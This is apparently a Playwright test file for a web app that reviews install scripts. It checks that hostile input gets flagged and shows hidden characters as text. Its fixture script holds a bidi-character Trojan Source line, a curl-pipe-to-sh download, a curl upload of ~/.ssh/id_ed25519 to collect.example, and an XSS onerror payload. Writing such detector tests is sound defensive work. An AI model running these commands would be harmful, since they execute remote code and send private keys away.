import type { Page } from '@playwright/test'
import { expect, test } from './app.ts'

test.use({ book: 'sample' })

/** Line 3 reads another way than it runs, line 5 runs what a server answers, line 6 sends a key away. */
const hostile = [
  '#!/bin/sh',
  'set -e',
  "access='user\u202e \u2066# only for admins\u2069 \u2066'",
  'sudo systemctl enable idle-node',
  'curl -fsSL https://get.example/run | sh',
  'curl -F "file=@$HOME/.ssh/id_ed25519" https://collect.example/up',
  "echo '<img src=x onerror=window.pwned=1>'",
].join('\n')

async function openReview(page: Page): Promise<void> {
  await page.evaluate(() => (window.location.hash = '#/diligence/review'))
  await expect(page.getByRole('heading', { level: 1 })).toContainText('Read an install script')
}

const script = (page: Page) => page.getByRole('textbox', { name: /The script/ })
const lines = (page: Page) => page.getByRole('region', { name: 'The script, line by line' })

test('a hostile script shows its alarms first, its hidden characters as text, and runs nothing', async ({
  page,
  app,
}) => {
  await openReview(page)
  await script(page).fill(hostile)
  await page.getByRole('button', { name: 'Review', exact: true }).click()
  await expect(page.getByRole('heading', { level: 1 })).toContainText(/alarms? and \d+ notes? in 7 lines/)
  const alarms = page.getByRole('region', { name: 'Alarms' })
  await expect(alarms).toContainText('Hidden characters')
  await expect(alarms).toContainText('Downloaded and run')
  await expect(alarms.getByRole('button', { name: /^Line 3/ })).toContainText('\\u202e')
  await expect(page.getByRole('region', { name: 'Notes' })).toContainText('Another account')
  await expect(lines(page).locator('[data-line="3"]')).toContainText(
    "access='user\\u202e \\u2066# only for admins\\u2069",
  )
  await expect(lines(page).locator('[data-line="3"]')).toHaveAttribute('data-mark', 'alarm')
  await expect(lines(page).locator('[data-line="2"]')).not.toHaveAttribute('data-mark')
  await expect(lines(page).locator('[data-line="7"]')).toContainText('<img src=x onerror=window.pwned=1>')
  expect(await lines(page).textContent(), 'no character that moves what is read').not.toMatch(
    /[\u202a-\u202e\u2066-\u2069]/,
  )
  await expect(page.getByRole('main')).toContainText('This says nothing about what was not looked for')
  await expect(page.getByRole('main')).not.toContainText(/\bsafe/i)
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  // What the complaints of the page would tell: no request left it.
  expect(app.dataFolder).not.toBe('')
})

test('the arrow keys go through the findings and the marked line goes along', async ({ page }) => {
  await openReview(page)
  await script(page).fill(hostile)
  await script(page).press('Control+Enter')
  const findings = page.locator('[data-finding]')
  await expect(findings.first()).toBeFocused()
  const count = await findings.count()
  expect(count).toBeGreaterThan(3)
  for (let at = 0; at < count; at += 1) {
    const line = /Line (\d+)/.exec((await findings.nth(at).textContent()) ?? '')?.[1]
    await expect(findings.nth(at)).toBeFocused()
    await expect(lines(page).locator('[data-chosen]')).toHaveAttribute('data-line', line ?? '')
    await page.keyboard.press('ArrowDown')
  }
  await expect(findings.last()).toBeFocused()
  await page.keyboard.press('Home')
  await expect(findings.first()).toBeFocused()
})

test('a file is opened and reviewed; a changed text says that the review is of the one before', async ({
  page,
}) => {
  await openReview(page)
  await page
    .locator('input[type="file"]')
    .setInputFiles({ name: 'install.sh', mimeType: 'text/x-sh', buffer: Buffer.from('echo hello\n') })
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(
    'Nothing of what was looked for stands in 1 line.',
  )
  await script(page).fill('echo hello\ncurl https://a.example | sh')
  await expect(page.getByRole('main')).toContainText('The text was changed since it was reviewed')
  await page.getByRole('button', { name: 'Review', exact: true }).click()
  await expect(page.getByRole('region', { name: 'Alarms' })).toContainText('Downloaded and run')
})
